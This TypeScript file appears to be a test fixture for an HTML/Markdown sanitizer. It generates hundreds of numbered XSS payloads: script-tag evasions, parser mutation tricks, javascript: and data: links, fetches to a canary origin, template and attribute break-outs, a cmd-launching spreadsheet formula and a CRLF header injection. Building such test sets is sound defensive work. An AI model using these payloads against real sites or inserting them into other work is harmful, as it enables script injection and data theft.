// Three hundred and more ways in which a stranger's text tries to run: each calls `alert(n)` or asks the canary for
// something. Our own list, and the shapes that sanitize-html's changelog names (mutations, comments, odd containers).

/** What is to run, in the forms that fit into a context. */
const runs = (number: number, canary: string) => ({
  js: `alert(${number})`,
  url: `${canary}/${number}`,
})

const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onpointerenter',
]
const tags = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'iframe',
  'marquee',
  'object data=x',
  'a href=#',
  'select autofocus',
  'math',
]

type Make = (js: string, url: string) => string

const scripts: Make[] = [
  js => `<script>${js}</script>`,
  js => `<ScRiPt >${js}</sCrIpT >`,
  js => `<script/x>${js}</script>`,
  js => `<<script>script>${js}<</script>/script>`,
  js => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (_, url) => `<script src="${url}"></script>`,
  (_, url) => `<script src=//${url.slice(7)}></script>`,
  js => `</title></textarea></style></script><script>${js}</script>`,
  js => `"><script>${js}</script>`,
  js => `'><script>${js}</script>`,
  js => `--><script>${js}</script>`,
  js => `]]><script>${js}</script>`,
  js => `&lt;script&gt;${js}&lt;/script&gt;`,
  js => `&amp;lt;script&amp;gt;${js}`,
  js => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  js => `%3Cscript%3E${js}%3C/script%3E`,
  js => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  js => `\u0000<script\u0000>${js}</script>`,
  js => `＜script＞${js}＜/script＞`,
  js => `<script>${js}//`,
]
const mutations: Make[] = [
  js => `<textarea><script>${js}</script></textarea>`,
  js => `<xmp><img src=x onerror=${js}></xmp>`,
  js => `<option><style></option></select><img src=x onerror=${js}></style>`,
  js => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  js => `<svg><style><img src=x onerror=${js}></style></svg>`,
  js => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  js => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  js => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  js => `<!--><img src=x onerror=${js}>-->`,
  js => `<!-- --!><img src=x onerror=${js}>`,
  js => `<![CDATA[><img src=x onerror=${js}>]]>`,
  js => `<?xml ?><img src=x onerror=${js}>`,
  js => `<template><img src=x onerror=${js}></template>`,
  js => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  js => `<noembed><img src=x onerror=${js}></noembed>`,
  js => `<plaintext><img src=x onerror=${js}>`,
  js => `<a title='"><img src=x onerror=${js}>'>x</a>`,
  js => `<select><svg><style></select><img src=x onerror=${js}></style></svg>`,
  js => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  js => `<svg><animate attributeName=href values=javascript:${js} /><a id=x><text y=20>x</text></a></svg>`,
]
const links: Make[] = [
  js => `<a href="javascript:${js}">x</a>`,
  js => `<a href="JaVaScRiPt:${js}">x</a>`,
  js => `<a href="java&#x09;script:${js}">x</a>`,
  js => `<a href="&#1;javascript:${js}">x</a>`,
  js => `<a href="  javascript:${js}">x</a>`,
  js => `<a href="javascript&colon;${js}">x</a>`,
  js => `<a href="data:text/html,<script>${js}</script>">x</a>`,
  js => `<a href="vbscript:${js}">x</a>`,
  js => `[x](javascript:${js})`,
  js => `[x](data:text/html;base64,${btoa(`<script>${js}</script>`)})`,
  js => `![x](x" onerror="${js})`,
  js => `<javascript:${js}>`,
  js => `[x]: javascript:${js}`,
  js => `javascript:${js}`,
  js => `<form action="javascript:${js}"><button>x</button></form>`,
  js => `<button formaction="javascript:${js}">x</button>`,
  js => `<object data="javascript:${js}"></object>`,
  js => `<embed src="javascript:${js}">`,
  js => `<base href="javascript:${js}//">`,
  js => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
]
/** Nothing runs here: something is fetched. */
const fetches: Make[] = [
  (_, url) => `<img src="${url}">`,
  (_, url) => `<img srcset="${url} 2x">`,
  (_, url) => `<link rel=stylesheet href="${url}">`,
  (_, url) => `<style>@import "${url}";</style>`,
  (_, url) => `<p style="background:url(${url})">x</p>`,
  (_, url) => `<iframe src="${url}"></iframe>`,
  (_, url) => `<video poster="${url}"></video>`,
  (_, url) => `<audio src="${url}" autoplay></audio>`,
  (_, url) => `<object data="${url}"></object>`,
  (_, url) => `<embed src="${url}">`,
  (_, url) => `<input type=image src="${url}">`,
  (_, url) => `<table background="${url}"><td>x</table>`,
  (_, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (_, url) =>
    `<link rel=prefetch href="${url}"><link rel=dns-prefetch href="${url}"><link rel=preconnect href="${url}">`,
  (_, url) => `<svg><image href="${url}"/><use href="${url}#x"/></svg>`,
  (_, url) => `![x](${url})`,
  (_, url) => `<body background="${url}">`,
  (_, url) => `<bgsound src="${url}">`,
  (_, url) => `<picture><source srcset="${url}"><img></picture>`,
  (_, url) => `<a ping="${url}" href="#">x</a>`,
]
const templates: Make[] = [
  js => `<%= ${js} %>`,
  js => `<%- ${js} %>`,
  js => `\${${js}}`,
  js => `{{constructor.constructor('${js}')()}}`,
  js => `#{${js}}`,
  js => `';${js};//`,
  js => `";${js};//`,
  js => `\`;${js};//`,
  js => `\\";${js};//`,
  js => `</script><svg onload=${js}>`,
  js => `" onmouseover="${js}" autofocus onfocus="${js}" x="`,
  js => `' onmouseover='${js}' autofocus onfocus='${js}' x='`,
  js => `x onmouseover=${js} x`,
  js => `\u2028${js}\u2028`,
  js => `__proto__[src]=data:,${js}`,
  js => `=cmd|' /C ${js}'!A0`,
  js => `\r\nContent-Type: text/html\r\n\r\n<script>${js}</script>`,
]
const handlers: Make[] = tags.flatMap(tag => events.map(event => (js: string) => `<${tag} ${event}=${js}>x`))
const breakOut: Make[] = ['"', "'", '', '`'].flatMap(quote =>
  handlers.slice(0, 24).map(make => (js: string, url: string) => `x${quote}>${make(js, url)}`),
)

/** Every payload, numbered from 1; `canary` is the origin that none may reach. */
export function payloads(canary: string): string[] {
  return [...scripts, ...mutations, ...links, ...fetches, ...templates, ...handlers, ...breakOut].map((make, at) => {
    const { js, url } = runs(at + 1, canary)
    return make(js, url)
  })
}
